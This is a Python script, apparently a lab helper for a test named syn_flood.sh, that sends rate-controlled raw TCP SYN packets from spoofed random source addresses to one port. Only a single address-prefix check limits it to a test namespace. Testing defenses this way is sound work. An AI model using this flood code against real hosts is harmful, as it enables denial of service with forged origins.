"""SYNs of addresses in 10.77.0.0/16 that never answer, to one port: ADDRESS PORT RATE SECONDS. For syn_flood.sh, inside its namespace."""
import random, socket, struct, sys, time

address, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
if not address.startswith("10.66."):
    sys.exit("only the namespace of syn_flood.sh")
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


begun, sent = time.monotonic(), 0
while (now := time.monotonic()) - begun < seconds:
    due = int((now - begun) * rate)
    while sent < due:
        source = socket.inet_aton(f"10.77.{random.randrange(256)}.{random.randrange(1, 255)}")
        target = socket.inet_aton(address)
        # Data offset 6 words: an MSS option, as any client sends it.
        segment = struct.pack("!HHIIBBHHHBBH", random.randrange(1024, 65535), port, random.getrandbits(32), 0, 6 << 4, 2, 65535, 0, 0, 2, 4, 1460)
        pseudo = source + target + struct.pack("!BBH", 0, 6, len(segment))
        segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0, source, target)
        raw.sendto(header + segment, (address, 0))
        sent += 1
    time.sleep(0.0005)
